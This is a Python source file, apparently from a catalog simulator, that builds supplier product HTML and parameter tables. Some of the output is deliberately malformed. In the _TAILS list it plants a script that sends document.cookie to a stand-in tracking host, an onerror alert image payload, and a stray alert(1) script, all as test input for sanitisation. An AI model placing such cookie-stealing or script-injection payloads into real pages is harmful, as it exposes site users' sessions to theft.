"""What the supplier says about goods in HTML: introductions and tables of parameters, some of it broken or hostile."""

from __future__ import annotations

from contrib.simulators.jd_vop.catalog import Item
from contrib.simulators.jd_vop.words import COLOURS, PROMISES

_PICTURES = "https://img30.example.com/popWaterMark/"

# By Item.style: most introductions are clean; what follows the text in the others must never run, nor break a page.
_TAILS: tuple[str, ...] = (
    "<script type='text/javascript'>document.location='https://track.example.com/?c='+document.cookie</script>",
    "<style>.ssd-module{width:750px} .ssd-module .m0{background:url(//img10.example.com/a.jpg)",
    '<div class="formwork"><table><tr><td>参见包装<br/><b>说明',
    "<img src=x onerror=\"alert('x')\"/>",
    '<iframe src="https://video.example.com/embed/77" width="750"></iframe>',
)


def stray(item: Item) -> str:
    """What stands in front of short texts of some goods, though no HTML is promised there."""
    return "<script>alert(1)</script>" if item.style % 16 == 9 else ""


def introduction(item: Item) -> str:
    """The HTML of the goods' page."""
    shown = "".join(
        f'<div class="ssd-module"><img alt="{item.model}" src="{_PICTURES}{path(item, picture)}"/></div>\n'
        for picture in range(1 + item.style % 5)
    )
    tail = _TAILS[item.style % 8] if item.style % 8 < len(_TAILS) else ""
    return (
        f'<div id="zbViewModulesH" value="{600 + item.style * 7}"></div>\n{shown}'
        f'<p style="text-align:center">{item.name}，产地{item.origin}。{promise(item)}</p>{tail}'
    )


def parameters(item: Item) -> str:
    """The table of parameters: the classic one, whose heading row is left open."""
    rows = (
        ("品牌", item.brand),
        ("型号", item.model),
        ("规格 ", item.spec),
        ("颜色", COLOURS[item.style % len(COLOURS)]),
        ("产地", item.origin),
    )
    cells = "".join(f'<tr><td class="tdTitle">{name}</td><td>{value}</td></tr>' for name, value in rows)
    head = '<table cellpadding="0" cellspacing="1" width="100%" border="0" class="Ptable">'
    return f'{head}<tr><th class="tdTitle" colspan="2">主体</th><tr>{cells}</table>'


def path(item: Item, picture: int) -> str:
    """Where a picture lies, below the supplier's image host. Another revision has other pictures."""
    salt = item.sku * 31 + picture * 7 + item.revision
    folder = f"jfs/t1/{salt % 997}/{picture}/{salt % 99_991}/{40_000 + salt % 260_000}"
    return f"{folder}/{salt * 2_654_435_761 % 2**48:012x}.jpg"


def promise(item: Item) -> str:
    """What is said about service."""
    return PROMISES[item.style % len(PROMISES)]
